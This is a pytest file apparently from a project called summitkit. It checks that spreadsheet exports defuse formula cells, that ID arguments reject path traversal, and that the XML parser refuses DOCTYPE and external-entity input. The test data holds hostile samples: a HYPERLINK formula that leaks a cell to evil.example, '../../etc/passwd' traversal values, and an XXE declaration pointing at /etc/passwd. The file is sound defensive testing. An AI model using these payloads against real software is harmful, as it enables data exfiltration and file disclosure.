"""Small holes closed: CSV cells a spreadsheet would run, arguments that must be ids."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import summit, write_minimal_repo

from summitkit.exchange.export import defused

COMMITMENT = """\
id: jpn-coe
made_by: jpn
made_at: seoul-2012
category: coe
text: {text}
sources: [fact-sheet]
"""


@pytest.mark.parametrize(
    "text",
    [
        '"=HYPERLINK(\\"https://example.org\\", \\"click\\")"',
        '"+1+2"',
        '"-2+3"',
        '"@SUM(A1:A9)"',
        '"\\r=cmd"',
    ],
)
def test_csv_cells_that_start_a_formula_are_prefixed(tmp_path: Path, text: str) -> None:
    root = write_minimal_repo(
        tmp_path / "repo", {"content/commitments/jpn-coe.yaml": COMMITMENT.format(text=text)}
    )
    result = summit("export", "csv", root, "--what", "commitments")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    cell = rows[0]["text"]
    assert cell.startswith("'") and cell[1] in "=+-@\t\r", repr(cell)


def test_plain_numbers_and_words_stay_as_they_are() -> None:
    assert defused("-2") == "-2"
    assert defused("+3.5") == "+3.5"
    assert defused("Set up a centre") == "Set up a centre"
    assert defused("-x") == "'-x"
    assert defused("\tx") == "'\tx"
    assert defused(7) == 7


@pytest.mark.parametrize(
    "args",
    [
        ("sign", "../../etc/passwd", "jpn"),
        ("unsign", "Joint", "jpn"),
        ("release", "../x", "--rev", "1"),
        ("versions", "a/b"),
        ("report", "..", "{repo}"),
        ("export", "akn", "a b", "--path", "{repo}"),
    ],
)
def test_id_arguments_take_ids_only(minimal_repo: Path, args: tuple[str, ...]) -> None:
    line = [a.replace("{repo}", str(minimal_repo)) for a in args]
    result = summit(*line)
    assert result.exit_code == 2, result.output
    assert "is not an id: ids are lowercase letters, digits and hyphens" in result.stderr


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_xlsx_stores_every_record_text_as_text(tmp_path: Path) -> None:
    """A benchmark title that reads as a formula is a text cell in every sheet; the
    workbook's own recomputing formulas stay formulas."""
    import shutil

    from openpyxl import load_workbook

    root = tmp_path / "repo"
    shutil.copytree(Path(__file__).parent / "data" / "scores", root)
    benchmark = root / "content" / "benchmarks" / "centre.yaml"
    text = benchmark.read_text(encoding="utf-8")
    title = "title: A centre set up and operating\n"
    benchmark.write_text(text.replace(title, f"title: '{HYPERLINK}'\n"), encoding="utf-8")
    out = tmp_path / "scores.xlsx"

    result = summit("export", "xlsx", root, "-o", out)

    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    holding = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == HYPERLINK:
                    holding.append(sheet.title)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                elif isinstance(cell.value, str) and cell.value.startswith("="):
                    assert sheet.title == "scores" and "SUMPRODUCT" in cell.value
                    assert cell.data_type == "f"
    assert sorted(set(holding)) == ["benchmarks", "weights"]


PACKAGE = Path(__file__).resolve().parents[1] / "summitkit"


def _calls(pattern: str) -> dict[str, list[int]]:
    import re

    found: dict[str, list[int]] = {}
    for path in sorted(PACKAGE.rglob("*.py")):
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(pattern, line):
                found.setdefault(path.relative_to(PACKAGE).as_posix(), []).append(number)
    return found


def test_xml_is_parsed_by_one_factory_only() -> None:
    found = _calls(r"etree\.fromstring|etree\.parse|XMLParser\(")
    assert set(found) == {"sources/core/xml.py"}


def test_yaml_is_loaded_by_one_loader_only() -> None:
    found = _calls(r"yaml\.(safe_)?load\b|yaml\.(safe_)?load_all\b|yaml\.unsafe_load|FullLoader")
    assert set(found) == {"sources/records/loader.py"}


@pytest.mark.parametrize(
    ("xml", "reason"),
    [
        (b'<!DOCTYPE r [<!ENTITY e "x">]><r>&e;</r>', "a DOCTYPE is not allowed"),
        (
            b'<?xml version="1.0"?>\n<!-- c -->\n<!doctype r SYSTEM "file:///etc/passwd"><r/>',
            "a DOCTYPE is not allowed",
        ),
        (b"\xef\xbb\xbf<!DOCTYPE r><r/>", "a DOCTYPE is not allowed"),
        (b"<r><unclosed></r>", "not well-formed XML"),
        (b"", "not well-formed XML"),
        (b"<r>" + b"x" * (64 * 1024 * 1024) + b"</r>", "larger than"),
    ],
)
def test_the_xml_factory_refuses_what_could_reach_beyond_the_file(xml: bytes, reason: str) -> None:
    from summitkit.sources.core.xml import XmlRefused, parse_xml

    with pytest.raises(XmlRefused) as refused:
        parse_xml(xml, what="part.xml")
    assert reason in str(refused.value) and str(refused.value).startswith("part.xml: ")


def test_the_xml_factory_reads_a_plain_part() -> None:
    from summitkit.sources.core.xml import parse_xml

    root = parse_xml(b'<?xml version="1.0"?><?pi x?><r a="1"><c>text</c></r>', what="p")
    assert root.tag == "r" and root.findtext("c") == "text"
